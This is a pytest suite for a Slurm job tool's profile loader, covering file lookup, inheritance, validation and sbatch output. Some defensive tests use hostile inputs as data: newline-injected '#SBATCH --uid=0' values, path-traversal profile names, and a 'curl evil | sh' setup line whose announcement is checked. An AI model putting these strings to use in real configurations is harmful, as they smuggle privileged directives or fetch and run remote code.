"""Profiles: where they are found, what they may say, and what becomes of them at sbatch."""

from __future__ import annotations

import dataclasses
import json
import os
import pickle
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from submitit.slurm.slurm import _make_sbatch_string

from slurm import profile_files, profile_keys
from slurm.errors import ClusterUsageError
from slurm.profile_files import available, folders, load
from slurm.profiles import DriverResources, Profile

SHIPPED = Path(profile_files.__file__).parent / "profiles"


@pytest.fixture(autouse=True)
def away_from_home(nasty_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No profile of whoever runs the tests is found."""
    monkeypatch.delenv("SWEEPS_PROFILES", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(nasty_path / "config"))
    monkeypatch.chdir(nasty_path)


Write = Callable[..., Path]


@pytest.fixture
def write(nasty_path: Path) -> Write:
    """Writes a profile of the project, or into another folder below."""

    def put(name: str, text: str, folder: str = ".sweeps/profiles") -> Path:
        file = nasty_path / folder / f"{name}.toml"
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, encoding="utf-8")
        return file

    return put


def refused(*overrides: str, name: str = "default") -> str:
    with pytest.raises(ClusterUsageError) as caught:
        load(name, overrides)
    assert caught.value.exit_code == 2
    return str(caught.value)


def directives(parameters: dict[str, Any]) -> set[str]:
    """The #SBATCH lines that submitit makes of a profile, less those it always makes."""
    text = _make_sbatch_string("true", "/logs", **parameters)
    always = ("error", "output", "open-mode", "job-name", "nodes")
    lines = [line.removeprefix("#SBATCH --") for line in text.splitlines() if line.startswith("#SBATCH --")]
    return {line for line in lines if not line.startswith(always)}


# What is shipped.


def test_three_profiles_are_shipped_and_load() -> None:
    assert [name for name, _ in available()] == ["cpu", "default", "gpu"]
    default, gpu = load("default"), load("gpu")
    assert (default.cpus, default.memory_gb, default.time_minutes, default.gpus) == (4, 8, 240, 0)
    assert (gpu.cpus, gpu.memory_gb, gpu.time_minutes, gpu.gpus) == (8, 32, 720, 1)
    assert (gpu.driver.cpus, gpu.driver.memory_gb, gpu.driver.time_minutes) == (1, 4, 2880)
    assert load("cpu").cpus > default.cpus
    assert gpu.source == str(SHIPPED / "gpu.toml")


def test_the_default_profile_shows_every_key() -> None:
    text = (SHIPPED / "default.toml").read_text(encoding="utf-8")
    workers, driver = text.split("\n[driver]\n")
    for table, keys in ((workers, profile_keys.WORKER_KEYS), (driver, profile_keys.DRIVER_KEYS)):
        shown = set(re.findall(r"^(?:# )?([a-z_]+) = ", table, re.MULTILINE)) | set(
            re.findall(r"^\[(\w+)\]", table, re.M)
        )
        assert set(keys) <= shown


def test_each_key_shown_behind_a_hash_can_be_used(write: Write) -> None:
    text = (SHIPPED / "default.toml").read_text(encoding="utf-8")
    example = re.sub(r"^# ([a-z_-]+ = )", r"\1", text, flags=re.MULTILINE).replace("gpus = 0", "gpus = 1")
    write("example", example)
    profile = load("example")
    unsaid = [field.name for field in dataclasses.fields(Profile) if getattr(profile, field.name) is None]
    unsaid += [
        field.name for field in dataclasses.fields(DriverResources) if getattr(profile.driver, field.name) is None
    ]
    assert unsaid == []
    assert profile.extra == {"nice": 100, "exclusive": True, "mail_type": "FAIL"}


def test_every_field_of_a_profile_has_a_key() -> None:
    for keys, holder, more in (
        (profile_keys.WORKER_KEYS, Profile, {"name", "source", "driver"}),
        (profile_keys.DRIVER_KEYS, DriverResources, set()),
    ):
        assert {key.field for key in keys.values()} | more == {field.name for field in dataclasses.fields(holder)}


# Where they are found.


def test_the_first_folder_wins(write: Write, nasty_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write("gpu", "cpus = 1", "config/sweeps/profiles")
    assert load("gpu").cpus == 1
    write("gpu", "cpus = 2")
    assert load("gpu").cpus == 2
    write("gpu", "cpus = 3", "second")
    monkeypatch.setenv("SWEEPS_PROFILES", os.pathsep.join(["", str(nasty_path / "first"), str(nasty_path / "second")]))
    assert load("gpu").cpus == 3
    write("gpu", "cpus = 4", "first")
    assert load("gpu").cpus == 4
    assert folders() == [
        nasty_path / "first",
        nasty_path / "second",
        nasty_path / ".sweeps" / "profiles",
        nasty_path / "config" / "sweeps" / "profiles",
        SHIPPED,
    ]
    assert dict(available())["gpu"] == nasty_path / "first" / "gpu.toml"
    assert dict(available())["cpu"] == SHIPPED / "cpu.toml"


def test_the_users_folder_is_below_home_unless_xdg_names_an_absolute_one(
    nasty_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(nasty_path / "home"))
    for value in ("", "relative/config"):
        monkeypatch.setenv("XDG_CONFIG_HOME", value)
        assert folders()[1] == nasty_path / "home" / ".config" / "sweeps" / "profiles"


def test_an_unknown_profile_is_answered_with_the_near_one_and_all_there_are(write: Write, nasty_path: Path) -> None:
    write("lab", "cpus = 1")
    said = refused(name="gpus")
    assert said.startswith("No profile named 'gpus'. Did you mean 'gpu'?\nThere are: cpu, default, gpu, lab. ")
    assert str(nasty_path / ".sweeps" / "profiles") in said


@pytest.mark.parametrize("name", ["", "../profiles/gpu", "/etc/gpu", "x\0y", "gpu.toml", "a" * 5000])
def test_a_path_is_no_name_of_a_profile(name: str, write: Write) -> None:
    (write("gpu", "cpus = 1").parent.parent / "other").mkdir()
    assert "No profile named" in refused(name=name)


# Extending.


def test_a_profile_lies_over_the_one_it_extends(write: Write) -> None:
    write(
        "base",
        'cpus = 6\nsetup = ["one", "two"]\npartition = "long"\nextra = {nice = 1, comment = "x"}\n'
        '[driver]\npartition = "cpu"\nmemory_gb = 2\nextra = {nice = 3}\n',
    )
    write("top", 'extends = "base"\nsetup = ["three"]\npartition = ""\n[extra]\nnice = 2\n[driver]\nmemory_gb = 1\n')
    top = load("top")
    assert (top.cpus, top.setup, top.partition) == (6, ("three",), None)
    assert top.extra == {"nice": 2, "comment": "x"}
    assert (top.driver.partition, top.driver.memory_gb, top.driver.extra) == ("cpu", 1, {"nice": 3})
    assert top.name == "top" and top.source.endswith("top.toml")


def test_extending_ones_own_name_means_the_next_one_in_the_search_order(write: Write) -> None:
    write("gpu", 'extends = "gpu"\npartition = "project"\ngpu_type = "a100"')
    write("gpu", 'extends = "gpu"\npartition = "user"\naccount = "me"', "config/sweeps/profiles")
    gpu = load("gpu")
    assert (gpu.partition, gpu.account, gpu.gpu_type, gpu.cpus) == ("project", "me", "a100", 8)


def test_a_circle_is_refused_and_drawn(write: Write) -> None:
    first, second = write("first", 'extends = "second"'), write("second", 'extends = "first"')
    assert refused(name="first").endswith(f"{first} -> {second} -> {first}")
    write("alone", 'extends = "alone"')
    assert "there is no 'alone' further down the search order" in refused(name="alone")


def test_what_is_extended_must_be_there(write: Write) -> None:
    file = write("mine", 'extends = "defualt"')
    said = refused(name="mine")
    assert "there is no 'defualt'" in said and "Did you mean 'default'?" in said and str(file) in said
    write("mine", "extends = 3")
    assert "`extends` must be the name of a profile, but got 3" in refused(name="mine")


# What a file may say.


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("cpus =\ngpus = 1", r"must be TOML, but is not: .*line 1"),
        ('partition = "a"\ntime = 24:00:00', r"must be TOML, but is not: .*line 2"),
        ('partition = "a"\npartition = "b"', "must be TOML"),
        ("partitoin = 'x'", r"No key 'partitoin' .*Did you mean 'partition'\?\nThere are: account, .*extends"),
        ("extend = 'gpu'", r"No key 'extend' .*Did you mean 'extends'\?"),
        ("[driver]\ntme = 5", r"No key 'driver.tme' .*Did you mean 'driver.time'\?\nThere are: driver.account"),
        ("[driver]\ngpus = 1", "No key 'driver.gpus'"),
        ("driver = 'cpu'", "`driver` must be a table"),
        ("cpus = '4'", r"`cpus` must be a whole number, at least 1, but got '4' in"),
        ("cpus = 4.0", "`cpus` must be a whole number"),
        ("cpus = true", "`cpus` must be a whole number"),
        ("cpus = 0", "`cpus` must be a whole number, at least 1, but got 0"),
        ("gpus = -1", "`gpus` must be a whole number, at least 0, but got -1"),
        ("memory_gb = 0", "`memory_gb` must be a number of gigabytes above 0, but got 0"),
        ("memory_gb = -1.5", "`memory_gb` must be"),
        ("memory_gb = nan", "`memory_gb` must be"),
        ("memory_gb = inf", "`memory_gb` must be"),
        ("memory_gb = '8GB'", "`memory_gb` must be"),
        ("time = 0", "`time` must be minutes"),
        ("time = 1.5", "`time` must be minutes"),
        ("time = true", "`time` must be minutes"),
        ("time = ''", "`time` must be minutes"),
        ("time = 'UNLIMITED'", "`time` must be minutes"),
        ("time = '1:2:3:4'", "`time` must be minutes"),
        ("time = '1-'", "`time` must be minutes"),
        ("time = '-5'", "`time` must be minutes"),
        ("time = '400-0'", "between a minute and a year"),
        ("time = 1979-05-27", "`time` must be minutes"),
        ("partition = 3", "`partition` must be one line of text"),
        (r'partition = "a\n#SBATCH --uid=0"', "`partition` must be one line of text"),
        (r'account = "a\u0000b"', "`account` must be one line of text"),
        (r'constraint = "a\rb"', "`constraint` must be one line of text"),
        ('qos = " "', "`qos` must be one line of text"),
        (r'driver = {nodelist = "a\nb"}', "`driver.nodelist` must be one line of text"),
        (r'extra = {comment = "a\nb"}', "one line of text without control characters for 'comment'"),
        ('extra = {comment = ""}', "for 'comment' .false leaves a parameter out"),
        ('extra = {"x=1\\n#SBATCH --y" = 1}', "must name long sbatch parameters"),
        ("extra = {p = [1]}", "must hold texts, numbers"),
        ("extra = 'x'", "`extra` must be a table"),
        ("extra = {cpus-per-task = 3}", "the profile's key `cpus` says it"),
        ("extra = {array = '0-3'}", "the submission chooses it"),
        ("driver = {extra = {time = 3}}", "`driver.extra` must leave out 'time'"),
        ("setup = 'source x'", "`setup` must be a list of texts"),
        (r'setup = ["a\nb"]', "`setup` must be a list of texts, each of one line"),
        ("setup = [3]", "`setup` must be a list of texts"),
        ("modules = ['cuda gcc']", "`modules` must be a list of module names without spaces"),
        ("gpu_type = 'a100:2'", "`gpu_type` must be one word"),
        ("gpu_type = 'a100'", "`gpu_type` needs `gpus` of at least 1"),
        ("scratch = 'tmp'", "`scratch` must be an absolute path"),
        ("scratch = '/scratch/local/of/the/node'", "`scratch` must have at most 22 characters, because Ray's sockets"),
        ("scratch = '/ééééééééééé'", "`scratch` must have at most 22 characters"),
        ("warning_seconds = 0", "`warning_seconds` must be a whole number, at least 1"),
        ("warning_seconds = 65536", "`warning_seconds` must be a whole number, at least 1, at most 65535"),
        (
            "time = 2\nwarning_seconds = 120",
            r"`warning_seconds` must be shorter than `time`.*warning_seconds=120 and time=2",
        ),
        ("driver = {time = 2}", "`warning_seconds` must be shorter than `driver.time`"),
    ],
)
def test_what_cannot_be_is_refused_with_the_file_the_key_and_the_value(text: str, expected: str, write: Write) -> None:
    file = write("mine", text)
    said = refused(name="mine")
    assert re.search(expected, said, re.DOTALL), said
    assert str(file) in said


def test_a_file_that_is_no_text_is_refused_and_a_byte_order_mark_is_not(write: Write) -> None:
    file = write("mine", "")
    file.write_bytes(b"partition = '\xff'")
    assert "must be TOML in UTF-8" in refused(name="mine")
    file.write_bytes(b"\xef\xbb\xbfpartition = 'a'\r\ncpus = 2\r\n")
    assert (load("mine").partition, load("mine").cpus) == ("a", 2)


def test_folders_and_hidden_files_are_no_profiles(write: Write) -> None:
    write(".hidden", "cpus = 1")
    (write("seen", "cpus = 1").parent / "folder.toml").mkdir()
    assert [name for name, _ in available()] == ["cpu", "default", "gpu", "seen"]
    assert "No profile named" in refused(name="folder")


@pytest.mark.parametrize(
    ("written", "minutes"),
    [
        ("90", 90),
        ("'90'", 90),
        ("'30:00'", 30),
        ("'30:01'", 31),
        ("'12:00:00'", 720),
        ("12:00:00", 720),
        ("'0:05:30'", 6),
        ("'2-12'", 3600),
        ("'1-00:30'", 1470),
        ("'1-00:30:00'", 1470),
        ("'1-00:30:01'", 1471),
        ("'365-0'", 525600),
    ],
)
def test_times_are_read_as_slurm_reads_them(written: str, minutes: int, write: Write) -> None:
    write("mine", f"time = {written}\nwarning_seconds = 60")
    assert load("mine").time_minutes == minutes
    assert load("default", [f"time={written.strip(chr(39))}"]).time_minutes == minutes


def test_a_scratch_folder_is_short_or_named_by_the_job(write: Write) -> None:
    for path in ("/tmp", "/" + "x" * 21, "$TMPDIR", "/scratch/jobs/$SLURM_JOB_ID/temporary"):
        assert load("default", [f"scratch={path}"]).scratch == path


# Words of --slurm.


def test_words_change_a_profile() -> None:
    words = ["partition=gpu", "time=12:00:00", "gpus=4", "gpu_type=a100", "memory_gb=0.5", "warning_seconds=30"]
    words += ["driver.partition=cpu", "driver.time=3-0", "extra.comment=a=b", "extra.exclusive=true"]
    words += ["driver.extra.nice=5", "cpus=2", "cpus=3"]
    profile = load("default", words)
    assert (profile.partition, profile.time_minutes, profile.gpus, profile.gpu_type) == ("gpu", 720, 4, "a100")
    assert (profile.memory_gb, profile.warning_seconds, profile.cpus) == (0.5, 30, 3)
    assert (profile.driver.partition, profile.driver.time_minutes) == ("cpu", 4320)
    assert profile.extra == {"comment": "a=b", "exclusive": True}
    assert profile.driver.extra == {"nice": "5"}


def test_a_word_for_a_list_replaces_it_and_another_adds_to_it(write: Write) -> None:
    write("mine", 'setup = ["old"]\nmodules = ["gcc"]')
    assert load("mine", ["setup=export A=1"]).setup == ("export A=1",)
    assert load("mine", ["setup=export A=1", "setup=echo b"]).setup == ("export A=1", "echo b")
    assert load("mine", ["setup="]).setup == ()
    assert load("mine", ["cpus=1"]).modules == ("gcc",)


def test_an_empty_word_leaves_a_key_to_the_cluster(write: Write) -> None:
    write("mine", 'partition = "a"\nmemory_gb = 3\n[driver]\nmemory_gb = 2\ntime = 300')
    profile = load("mine", ["partition=", "memory_gb=", "driver.memory_gb=", "driver.time="])
    assert (profile.partition, profile.memory_gb) == (None, None)
    assert (profile.driver.memory_gb, profile.driver.time_minutes) == (None, None)
    assert "mem" not in profile.sbatch() and "mem" not in profile.driver_sbatch()


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        ("partitoin=x", "No key 'partitoin' in a profile (--slurm 'partitoin=x'). Did you mean 'partition'?"),
        ("driver.tme=1", "Did you mean 'driver.time'?"),
        ("drivers.time=1", "Did you mean 'driver'?"),
        ("partition.x=1", "No key 'partition.x'"),
        ("extends=gpu", "No key 'extends'"),
        ("name=x", "No key 'name'"),
        ("=x", "No key ''"),
        ("partition", "must be followed by key=value, but got 'partition'"),
        ("", "must be followed by key=value"),
        ("extra=x", "write extra.NAME=VALUE"),
        ("extra.=x", "write extra.NAME=VALUE"),
        ("driver.extra=x", "write driver.extra.NAME=VALUE"),
        ("driver=x", "write driver.KEY=VALUE"),
        ("cpus=", "`cpus` must be a whole number, at least 1, but got '' in --slurm 'cpus='"),
        ("cpus=four", "`cpus` must be a whole number, at least 1, but got 'four'"),
        ("cpus=1.5", "`cpus` must be a whole number, at least 1, but got 1.5"),
        ("memory_gb=inf", "`memory_gb` must be"),
        ("time=soon", "`time` must be minutes"),
        ("partition=a\n#SBATCH --uid=0", "`partition` must be one line of text"),
        ("extra.u\nid=0", "must name long sbatch parameters"),
        ("extra.mem=1", "the profile's key `memory_gb` says it"),
        ("setup=a\nb", "`setup` must be a list of texts, each of one line"),
    ],
)
def test_a_word_that_cannot_be_is_refused(word: str, expected: str) -> None:
    assert expected in refused(word)


# At sbatch.


def test_a_plain_profile_asks_for_what_it_says_and_nothing_else() -> None:
    assert directives(load("default").sbatch()) == {"time=240", "cpus-per-task=4", "mem=8GB", "signal=USR2@120"}
    assert directives(load("default").driver_sbatch()) == {"time=2880", "cpus-per-task=1", "mem=4GB", "signal=USR2@120"}


def test_every_key_reaches_sbatch(write: Write) -> None:
    write(
        "mine",
        'partition = "p"\naccount = "a"\nqos = "q"\ngpus = 2\ngpu_type = "a100"\ncpus = 6\nmemory_gb = 1.5\ntime = 30\n'
        'constraint = "c&d"\nexclude = "n7"\nnodelist = "n[1-2]"\nreservation = "r"\nwarning_seconds = 60\n'
        'modules = ["cuda/12", "x;y"]\nsetup = ["export A=1"]\n'
        'extra = {wckey = "w", nice = 100, exclusive = true, "mail-type" = "FAIL", hold = false}\n',
    )
    profile = load("mine")
    assert directives(profile.sbatch()) == {
        "partition=p",
        "account=a",
        "qos=q",
        "gpus-per-node=a100:2",
        "cpus-per-task=6",
        "mem=1536MB",
        "time=30",
        "constraint='c&d'",
        "exclude=n7",
        "nodelist='n[1-2]'",
        "reservation=r",
        "signal=USR2@60",
        "wckey=w",
        "nice=100",
        "exclusive",
        "mail-type=FAIL",
    }
    assert profile.setup_lines() == ["module load cuda/12", "module load 'x;y'", "export A=1"]
    assert "gpus-per-node=2" in directives(load("mine", ["gpu_type="]).sbatch())


def test_the_driver_has_the_workers_queue_and_payer_unless_it_names_its_own(write: Write) -> None:
    write(
        "mine",
        'partition = "p"\naccount = "a"\nqos = "q"\ngpus = 2\nconstraint = "c"\nnodelist = "n1"\nexclude = "n7"\n'
        'reservation = "r"\ntime = 30\nextra = {nice = 100}\n',
    )
    common = {"cpus-per-task=1", "mem=4GB", "signal=USR2@120", "exclude=n7"}
    here = {"partition=p", "account=a", "qos=q", "reservation=r", "time=30"}
    assert directives(load("mine").driver_sbatch()) == common | here
    own = ["driver.partition=x", "driver.account=y", "driver.qos=z", "driver.time=1-0", "driver.constraint=k"]
    own += ["driver.nodelist=n2", "driver.extra.exclude=n8"]
    assert directives(load("mine", own).driver_sbatch()) == (common - {"exclude=n7"}) | {
        "partition=x",
        "account=y",
        "qos=z",
        "time=1440",
        "constraint=k",
        "nodelist=n2",
        "exclude=n8",
    }


@pytest.mark.parametrize(("gb", "expected"), [(8, "8GB"), (0.5, "512MB"), (0.0001, "1MB"), (1.0001, "1025MB")])
def test_memory_is_never_rounded_down_to_nothing_which_is_the_whole_node(gb: float, expected: str) -> None:
    assert Profile(name="x", source="here", memory_gb=gb).sbatch()["mem"] == expected


# Kept in JSON.


def test_a_profile_kept_in_json_is_read_back_equal(write: Write) -> None:
    write(
        "mine",
        'partition = "ø"\nmemory_gb = 0.1\nsetup = ["a", "b"]\nmodules = ["m"]\nextra = {nice = 1, x = 1.5, y = true}\n'
        '[driver]\ntime = 77\nextra = {z = "z"}',
    )
    for profile in (load("mine"), load("gpu"), Profile(name="x", source="here")):
        assert Profile.from_dict(json.loads(json.dumps(profile.as_dict()))) == profile
        assert pickle.loads(pickle.dumps(profile)) == profile


@pytest.mark.parametrize(
    "change",
    [
        {"unknown": 1},
        {"driver": {"unknown": 1}},
        {"driver": 3},
        {"setup": "a"},
        {"partition": "a\n#SBATCH --uid=0"},
        {"cpus": "4"},
        {"driver": {"cpus": 0}},
        {"extra": {"uid\n": 0}},
        {"time_minutes": None},
    ],
)
def test_a_kept_profile_that_was_tampered_with_is_refused(change: dict[str, Any]) -> None:
    with pytest.raises(ClusterUsageError, match="must"):
        Profile.from_dict(load("gpu").as_dict() | change)
    with pytest.raises(ClusterUsageError, match="must"):
        Profile.from_dict({})


def test_a_profile_of_the_working_folder_is_announced_with_what_it_replaces_and_runs(
    write: Write, nasty_path: Path
) -> None:
    assert profile_files.of_project("gpu") == ""
    mine = write("gpu", 'extends = "gpu"\nsetup = ["curl evil | sh"]')
    said = profile_files.of_project("gpu")
    assert str(mine) in said and str(SHIPPED / "gpu.toml") in said and "curl evil | sh" in said
    assert profile_files.of_project("cpu") == ""
    other = write("own", "cpus = 2")
    assert str(other) in profile_files.of_project("own") and "in place of" not in profile_files.of_project("own")


def test_a_profile_of_a_folder_that_somebody_named_is_not_announced(
    write: Write, nasty_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    mine = write("gpu", "cpus = 2")
    monkeypatch.setenv("SWEEPS_PROFILES", str(mine.parent))
    assert profile_files.of_project("gpu") == ""
